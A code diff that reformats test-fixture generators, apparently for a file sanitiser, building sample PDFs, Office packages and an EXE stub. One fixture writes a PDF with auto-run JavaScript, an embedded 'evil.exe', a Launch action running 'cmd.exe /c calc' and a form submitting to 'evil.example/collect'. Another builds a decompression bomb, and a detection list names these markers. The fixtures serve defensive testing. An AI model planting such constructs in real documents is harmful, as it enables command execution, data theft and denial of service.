@@ -26,7 +26,11 @@ export function pdfFile(extra = 1024): Buffer {
   const filler = randomBytes(Math.floor(extra));
   obj([Buffer.from(`<< /Length ${filler.length} >>\nstream\n`), filler, Buffer.from('\nendstream')]);
   const xref = at;
-  add(Buffer.from(`xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`));
+  add(
+    Buffer.from(
+      `xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`,
+    ),
+  );
   add(Buffer.from(`trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`));
   return Buffer.concat(parts);
 }
@@ -43,13 +47,22 @@ export const exeFile = (): Buffer => Buffer.concat([Buffer.from('MZ\x90\x00\x03\
 /** A minimal Office Open XML package: word/, xl/ or ppt/ decides what it is. */
 export function officeFile(part: 'word' | 'xl' | 'ppt'): Promise<Buffer> {
   const zip = new ZipFile();
-  zip.addBuffer(Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'), '[Content_Types].xml');
+  zip.addBuffer(
+    Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
+    '[Content_Types].xml',
+  );
   zip.addBuffer(Buffer.from('<?xml version="1.0"?><Relationships/>'), '_rels/.rels');
-  zip.addBuffer(Buffer.from('<?xml version="1.0"?><document/>'), `${part}/${part === 'word' ? 'document' : part === 'xl' ? 'workbook' : 'presentation'}.xml`);
+  zip.addBuffer(
+    Buffer.from('<?xml version="1.0"?><document/>'),
+    `${part}/${part === 'word' ? 'document' : part === 'xl' ? 'workbook' : 'presentation'}.xml`,
+  );
   zip.end();
   return new Promise((resolve, reject) => {
     const parts: Buffer[] = [];
-    zip.outputStream.on('data', (d: Buffer) => parts.push(d)).on('end', () => resolve(Buffer.concat(parts))).on('error', reject);
+    zip.outputStream
+      .on('data', (d: Buffer) => parts.push(d))
+      .on('end', () => resolve(Buffer.concat(parts)))
+      .on('error', reject);
   });
 }
 
@@ -82,11 +95,23 @@ export async function activePdf(marker: string): Promise<Buffer> {
   const scriptStream = ctx.register(ctx.stream('app.alert("from a stream")'));
   doc.catalog.set(PDFName.of('OpenAction'), js('app.alert("open")'));
   doc.catalog.set(PDFName.of('AA'), ctx.obj({ WC: js('app.alert("will close")') }));
-  doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: { Names: [s('init'), js('app.alert("names")')] }, EmbeddedFiles: { Names: [s('evil.exe'), filespec] } }));
+  doc.catalog.set(
+    PDFName.of('Names'),
+    ctx.obj({ JavaScript: { Names: [s('init'), js('app.alert("names")')] }, EmbeddedFiles: { Names: [s('evil.exe'), filespec] } }),
+  );
   page.node.set(PDFName.of('AA'), ctx.obj({ O: js('app.alert("page open")'), C: js('app.alert("page close")') }));
-  const link = (action: import('pdf-lib').PDFDict, y: number) => ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [60, y, 300, y + 20], Border: [0, 0, 0], A: action }));
+  const link = (action: import('pdf-lib').PDFDict, y: number) =>
+    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [60, y, 300, y + 20], Border: [0, 0, 0], A: action }));
   const field = ctx.register(
-    ctx.obj({ Type: 'Annot', Subtype: 'Widget', FT: 'Tx', T: s('name'), Rect: [60, 300, 300, 320], AA: { K: js('app.alert("keystroke")') }, A: { S: 'SubmitForm', F: s('https://evil.example/collect') } }),
+    ctx.obj({
+      Type: 'Annot',
+      Subtype: 'Widget',
+      FT: 'Tx',
+      T: s('name'),
+      Rect: [60, 300, 300, 320],
+      AA: { K: js('app.alert("keystroke")') },
+      A: { S: 'SubmitForm', F: s('https://evil.example/collect') },
+    }),
   );
   page.node.set(
     PDFName.of('Annots'),
@@ -95,7 +120,9 @@ export async function activePdf(marker: string): Promise<Buffer> {
       link(ctx.obj({ S: 'Launch', F: s('cmd.exe'), Win: { F: s('cmd.exe'), P: s('/c calc') } }), 660),
       link(ctx.obj({ S: 'GoToR', F: s('other.pdf'), D: [0, 'Fit'] }), 620),
       link(ctx.obj({ S: 'JavaScript', JS: scriptStream, Next: js('app.alert("next")') }), 580),
-      ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [60, 540, 80, 560], FS: filespec, Contents: s('attachment') })),
+      ctx.register(
+        ctx.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [60, 540, 80, 560], FS: filespec, Contents: s('attachment') }),
+      ),
       field,
     ]),
   );
@@ -135,7 +162,8 @@ export async function activeContentOf(pdf: Buffer): Promise<string[]> {
         text = Buffer.from(obj.contents).toString('latin1');
       }
     } else text = obj.toString();
-    for (const needle of ['app.alert', 'evil.example', 'cmd.exe', 'evil.exe', 'MZ this would be']) if (text.includes(needle)) found.add(`text ${needle}`);
+    for (const needle of ['app.alert', 'evil.example', 'cmd.exe', 'evil.exe', 'MZ this would be'])
+      if (text.includes(needle)) found.add(`text ${needle}`);
   }
   return [...found].sort();
 }
@@ -147,11 +175,15 @@ export async function pdfWithInflateBomb(mb: number): Promise<Buffer> {
   const zeros = Buffer.alloc(1 << 20);
   const parts: Buffer[] = [];
   // deflated a megabyte at a time: this process never holds the inflated size
-  for await (const d of Readable.from((function* () {
-    for (let i = 0; i < mb; i++) yield zeros;
-  })()).pipe(createDeflate({ level: 9 }))) parts.push(d as Buffer);
+  for await (const d of Readable.from(
+    (function* () {
+      for (let i = 0; i < mb; i++) yield zeros;
+    })(),
+  ).pipe(createDeflate({ level: 9 })))
+    parts.push(d as Buffer);
   const bomb = Buffer.concat(parts);
-  const head = '%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n';
+  const head =
+    '%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n';
   const obj = `4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`;
   const tail = `\nendstream\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\n%%EOF\n`;
   return Buffer.concat([Buffer.from(head), Buffer.from(obj), bomb, Buffer.from(tail)]);
